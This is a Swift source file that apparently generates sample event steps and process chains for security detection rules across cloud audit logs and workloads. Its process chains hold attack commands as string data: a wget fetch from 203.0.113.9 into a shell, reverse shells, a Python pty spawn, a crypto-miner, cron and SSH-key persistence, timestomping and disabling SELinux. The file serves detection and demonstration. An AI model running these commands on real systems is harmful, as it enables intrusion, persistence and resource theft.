/// What happens step by step when a rule fires: the calls in a log, or the processes on a workload.
struct EventScript: Sendable {
    struct Step: Sendable {
        let name: String
        let source: String
        let category: String
    }

    /// From the parent down to the process that the rule is about.
    struct Chain: Sendable {
        let commands: [String]
    }

    let steps: [Step]
    let chains: [Chain]

    init(for rule: Rule) {
        steps = rule.isRuntime ? [] : Self.steps(for: rule)
        chains = rule.isRuntime ? Self.chains(for: rule.name) : []
    }

    private static func steps(for rule: Rule) -> [Step] {
        switch rule.origin {
        case "AWS_GUARD_DUTY":
            [Step(name: "GuardDuty: \(rule.name)", source: "guardduty", category: "Detection")]
        case "AZURE_DEFENDER_FOR_CLOUD":
            [Step(name: rule.name, source: "defender", category: "Detection")]
        case "GCP_SECURITY_COMMAND_CENTER":
            [Step(name: rule.name, source: "securitycenter.googleapis.com", category: "Detection")]
        case "AZURE_ACTIVE_DIRECTORY": directory
        case "GOOGLE_WORKSPACE_AUDIT_LOGS":
            [Step(name: "ENFORCE_STRONG_AUTHENTICATION", source: "admin.googleapis.com", category: "Identity")]
        case "WIZ_KUBERNETES_AUDIT_LOGS_COLLECTOR": cluster(for: rule.name)
        default: amazon(for: rule)
        }
    }

    private static let directory = [
        Step(name: "Add user", source: "Core Directory", category: "Identity"),
        Step(name: "Add member to role", source: "Core Directory", category: "Identity"),
        Step(name: "Disable Strong Authentication", source: "Core Directory", category: "Identity"),
    ]

    private static func cluster(for name: String) -> [Step] {
        name.contains("Binding")
            ? [Step(name: "create clusterrolebindings", source: "kubernetes", category: "Identity")]
            : [
                Step(name: "list pods", source: "kubernetes", category: "Read"),
                Step(name: "create pods/exec", source: "kubernetes", category: "Access"),
            ]
    }

    private static func amazon(for rule: Rule) -> [Step] {
        if rule.name.contains("Database") {
            return [
                Step(name: "DescribeDBInstances", source: "rds.amazonaws.com", category: "List"),
                Step(name: "ExecuteStatement", source: "rds-data.amazonaws.com", category: "Read"),
            ]
        }
        return [
            Step(name: "GetCallerIdentity", source: "sts.amazonaws.com", category: "Read"),
            Step(name: "ListAttachedRolePolicies", source: "iam.amazonaws.com", category: "List"),
            Step(name: "ListBuckets", source: "s3.amazonaws.com", category: "List"),
        ]
    }

    private static func chains(for name: String) -> [Chain] {
        let miner = Chain(commands: [
            "/usr/sbin/cron -f", "/bin/sh -c /tmp/.cache/run.sh", "/tmp/.cache/kworkerd -o pool.example:3333 -t 4",
        ])
        return switch true {
        case name.contains("Reverse shell"), name.contains("Web server"):
            [
                Chain(commands: [
                    "nginx: worker process", "php-fpm: pool www", "/bin/sh -c id", "/bin/bash -i",
                ]),
                Chain(commands: ["node /srv/app/server.js", "/bin/sh -c wget -q -O- 203.0.113.9/a", "/bin/bash -i"]),
            ]
        case name.contains("Python"):
            [
                Chain(commands: [
                    "/usr/local/bin/gunicorn app:wsgi", "python3 -c import pty;pty.spawn('/bin/sh')", "/bin/sh",
                ])
            ]
        case name.contains("mining"), name.contains("miner"): [miner]
        case name.contains("ron persistence"):
            [Chain(commands: ["/bin/bash -i", "crontab -", "tee /etc/cron.d/sysupdate"])]
        case name.contains("ssh keys"):
            [Chain(commands: ["/bin/bash -i", "tee -a /home/deploy/.ssh/authorized_keys"])]
        case name.contains("Timestomping"):
            [Chain(commands: ["/bin/bash -i", "touch -d 2019-04-02 /usr/bin/kworkerd"])]
        case name.contains("configuration file"):
            [Chain(commands: ["/bin/bash -i", "sed -i s/enforcing/permissive/ /etc/selinux/config"])]
        default: [Chain(commands: ["/usr/sbin/sshd -D", "-bash", "/dev/fd/3 --daemon"])]
        }
    }
}
